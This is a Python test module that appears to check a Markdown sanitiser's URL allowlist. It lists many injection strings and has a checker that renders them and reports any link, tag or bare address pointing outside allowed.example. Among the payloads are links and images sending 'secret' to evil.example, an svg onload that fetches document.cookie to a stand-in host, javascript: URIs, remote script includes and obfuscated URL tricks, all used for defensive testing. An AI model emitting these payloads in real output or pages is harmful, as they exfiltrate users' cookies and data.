"""Ways to get an address out of an answer, and an independent check that none got out."""

from __future__ import annotations

import html
import re

from markdown_it import MarkdownIt

ALLOWED = frozenset({"allowed.example", "docs.allowed.example"})

ATTACKS = (
    "[text](https://evil.example/?q=secret)",
    '[text](https://evil.example/ "title")',
    "[text](<https://evil.example/a b>)",
    "[text](\n  https://evil.example/\n  'title'\n)",
    "[te[x]t](https://evil.example/(a)(b)c)",
    "[te\\]xt](https://evil.example)",
    "[text](https:\\/\\/evil.example)",
    "[text](/relative) [text](../up) [text](#here) [text](?q=1)",
    "[text](//evil.example/x)",
    "[text](javascript:alert(1))",
    "[text](data:text/html;base64,PHNjcmlwdD4=)",
    "[text](JaVaScRiPt:alert(1))",
    "[text](&#104;ttps://evil.example)",
    "[text](ht\ttps://evil.example) [text](ht\ntps://evil.example)",
    "[text](https://allowed.example@evil.example/x)",
    "[text](https://allowed.example.evil.example/x)",
    "[text](https://allowed.example%2eevil.example/x)",
    "[text](https://allowed.example\\@evil.example/x)",
    "[text](https://allowed.example\u3002evil.example/x)",
    "[text](https://allowed.example:80@evil.example/x)",
    "[text](https://allowed.example/redirect?to=https://evil.example/)",
    "![alt](https://evil.example/i.png?q=secret)",
    "![alt](https://evil.example/i.png =10x10)",
    "[![alt](https://evil.example/i.png)](https://evil.example/)",
    "[![alt](https://evil.example/i.png)](https://allowed.example/)",
    "[text][ref]\n\n[ref]: https://evil.example 'title'",
    "[ref]\n\n[ref]:\nhttps://evil.example\n",
    "[ref]\n\n   [ref]: <https://evil.example>",
    "> [ref]: //evil.example/x\n\n[ref][]",
    "- [a\nb]: https://evil.example\n\n[a b]",
    "[a]: /x\n[b0]: /y\n\n[a] [b0]",
    "<https://evil.example/x>",
    "<HTTPS://EVIL.EXAMPLE/x>",
    "<ftp://evil.example/x> <mailto:a@evil.example> <a@evil.example>",
    "<javascript:alert(1)>",
    "<https://allowed.example@evil.example/>",
    "<img src=https://evil.example/i.png>",
    "<IMG SRC='//evil.example/i.png' onerror=alert(1)>",
    '<a href="https://evil.example">text</a>',
    "<a\nhref=https://evil.example\n>text</a>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "<iframe srcdoc='<img src=https://evil.example>'>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<script src=//evil.example/x.js></script>",
    "<!-- <img src=https://evil.example> -->",
    "<![CDATA[<img src=https://evil.example>]]>",
    "<?php echo 1 ?> <!DOCTYPE html>",
    "<x-custom style='background:url(https://evil.example)'>",
    "<<b>img src=https://evil.example/i.png>",
    "<b<b>>bold</b</b>>",
    "text <img src=https://evil.example/i.png",
    "text <a href='https://evil.example/",
    "&lt;img src=https://evil.example&gt; &#60;b&#62;",
    "&amp;lt;img src=x&amp;gt; &&#97;mp;lt;b>",
    "https://evil.example/?q=secret",
    "HtTpS://evil.example/?q=secret",
    "http:evil.example http:/evil.example http:\\\\evil.example",
    "ftp://evil.example/x ws://evil.example/x any+thing.else-1://evil.example/x",
    '//evil.example/x (//evil.example/x) "//10.0.0.1/x" //localhost/x',
    "www.evil.example www2.evil.example/x WWW.evil.example",
    "evil.com/?q=secret evil.io/secret a@evil.com/x evil.co:8080/x",
    "mailto:a@evil.example?body=secret",
    "evil.bank/secret evil.email/q?x=secret evil.xxx?secret evil.zz:80#secret evil\\.dog/x EVIL.ENGINEERING/x",
    "evil.xn--p1ai/a?d=secret evil.\u0440\u0444/a?d=secret \u0437\u043b\u043e.\u0440\u0444:8080?secret",
    "evil.\u092d\u093e\u0930\u0924/secret \u0437\u043b\u043e\uff0e\u0440\u0444\uff0fsecret a.\u4e2d\u56fd#secret",
    "1.2.3.4/secret 1.2.3.4:80/secret 1.2.3.4/24/secret 1.2.3.4/24?secret 1.2.3.4?secret",
    "tel:+49123 sms:123?body=secret magnet:?xt=secret xmpp:a@b TEL:1 [a](tel:1) sip\\:x geo:1,2 ms-word:ofe|u|x",
    "evil.com?\u0441\u0435\u043a\u0440\u0435\u0442 evil.com?[secret]",
    "javascript:alert(1) vbscript:x data:text/html,x data:,x blob:x view-source:x",
    "https&colon;&sol;&sol;evil.example https&#58;//evil.example https&#x3a;//evil.example",
    "&#104;ttps://evil.example &#x68;ttps://evil.example &#104ttps://evil.example",
    "https\\://evil.example https:\\/\\/evil.example www\\.evil.example evil\\.com/x",
    "ht\u200btps://evil.example h\u2060t\ufefft\u00adp\u200d://evil.example",
    "ht\x00tps://evil.example ht\x1btps://evil.example ht\rtps://evil.example",
    "https://evil\u3002example/x https://evil\uff0eexample/x https\uff1a//evil.example \uff48ttps://evil.example",
    "https://\u4f8b\u3048.jp/secret //\u4f8b\u3048.jp/secret \u4f8b\u3048.jp/secret",
    "https://allowed.example@evil.example/ https://allowed.example.evil.example/",
    "https://allowed.example\u3002evil.example https://allowed.example\u4f8b.evil.example/",
    "https://allowed.example]@evil.example/ https://allowed.example)@evil.example/ https://allowed.example'@evil.com/",
    "https://allowed.example/https://evil.example/ https://allowed.example?u=//evil.example",
    "https://[::1]/x https://127.0.0.1/x https://2130706433/x https://0x7f.1/x",
    "https://evil.example/" + "a" * 6_000,
    "[text](https://evil.example/" + "a" * 6_000 + ")",
    "\uff48javascript:alert(1) \uff48mailto:a@evil.example \uff48www.evil.example",
    "<img alt='" + "a" * 6_000 + "' src=https://evil.example>",
    "```\n<img src=https://evil.example>\n[x](https://evil.example)\n```\nhttps://evil.example",
    "`<img src=https://evil.example>` `https://evil.example`",
    "    <img src=https://evil.example>\n    https://evil.example",
    "| a |\n|---|\n| [x](https://evil.example) <img src=//evil.example> |",
    "\\[text](https://evil.example) [text]\\(https://evil.example) \\<b>",
    "[text]\u200b(https://evil.example) <\u200bb>x<\u00ad/b>",
    "<" * 50 + "b>" * 50 + "](" * 50 + "https://evil.example",
    "[" * 60 + "a](https://evil.example)" + "](https://evil.example)" * 20,
)

_RENDERER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_HARMLESS_TAGS = "p em strong code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 br hr a img table thead tbody tr th td s"
_HARMLESS = frozenset(_HARMLESS_TAGS.split())
_INSIDE = re.compile(r"https?://(?:docs\.)?allowed\.example(?::[0-9]+)?(?:[/?#]|\Z)")
_BARE = re.compile(
    r"(?:https?|ftp|wss?)://(?!(?:docs\.)?allowed\.example(?::[0-9]+)?/)|(?<![a-z0-9.])www\.[a-z]|"
    r"(?<![a-z0-9])(?:javascript:[a-z]|data:[a-z]+/|mailto:[a-z])|(?<![:/\w])//(?!(?:docs\.)?allowed\.example/)[a-z0-9-]+\.[a-z]{2}",
    re.IGNORECASE,
)


def escapes(text: str) -> list[str]:
    """What of `text` a Markdown renderer, with HTML on, or a linkifier after it would point outside."""
    environment: dict[str, object] = {}
    page = _RENDERER.render(text, environment)
    tags = [tag for tag in re.findall(r"<[^>]*>", page) if re.split(r"[\s/>]", tag.lstrip("</"))[0] not in _HARMLESS]
    targets = [url for url in re.findall(r'(?:href|src)="([^"]*)"', page) if not _INSIDE.match(html.unescape(url))]
    shown = html.unescape(re.sub(r"<[^>]*>", " ", page))
    bare = [found[0] for found in _BARE.finditer(shown)]
    return tags + targets + bare + [str(name) for name in [environment.get("references")] if name]
